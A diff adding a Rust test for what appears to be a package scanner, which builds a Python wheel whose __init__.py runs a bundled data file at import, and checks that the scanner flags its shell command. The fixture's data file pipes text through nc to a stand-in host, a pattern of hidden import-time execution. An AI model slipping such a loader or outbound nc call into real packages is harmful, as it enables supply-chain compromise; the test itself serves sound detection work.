@@ -471,3 +471,47 @@ fn a_script_linked_from_outside_the_package_is_not_read() {
         summary(&r)
     );
 }
+
+/// In a wheel: a module's top level running a shipped data file as code is graded at import,
+/// the file read from the archive again.
+#[test]
+fn a_wheel_module_running_its_data_file_is_graded_at_import() {
+    use std::io::Write;
+    let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let opts = zip::write::SimpleFileOptions::default()
+        .compression_method(zip::CompressionMethod::Deflated);
+    for (n, d) in [
+        (
+            "demo/__init__.py",
+            "import runpy\nfrom pathlib import Path\nrunpy.run_path(str(Path(__file__).parent / 'assets' / 'init.dat'))\n",
+        ),
+        (
+            "demo/assets/init.dat",
+            "import os\nos.system('echo airlock | nc h.example.invalid 9')\n",
+        ),
+        (
+            "demo-1.0.dist-info/METADATA",
+            "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+        ),
+        (
+            "demo-1.0.dist-info/WHEEL",
+            "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+        ),
+    ] {
+        z.start_file(n, opts).expect("start");
+        z.write_all(d.as_bytes()).expect("write");
+    }
+    let data = z.finish().expect("finish").into_inner();
+    let dir = tempfile::tempdir().expect("tempdir");
+    let p = dir.path().join("demo-1.0-py3-none-any.whl");
+    std::fs::write(&p, data).expect("write");
+    let r = scan_path(&p, false);
+    let f = findings(&r, "python-shell-command", "demo/__init__.py");
+    assert!(
+        f.iter().any(|f| f.severity == Severity::High
+            && f.message.contains("demo/assets/init.dat:2")
+            && f.message.contains("at import")),
+        "{:#?}",
+        summary(&r)
+    );
+}
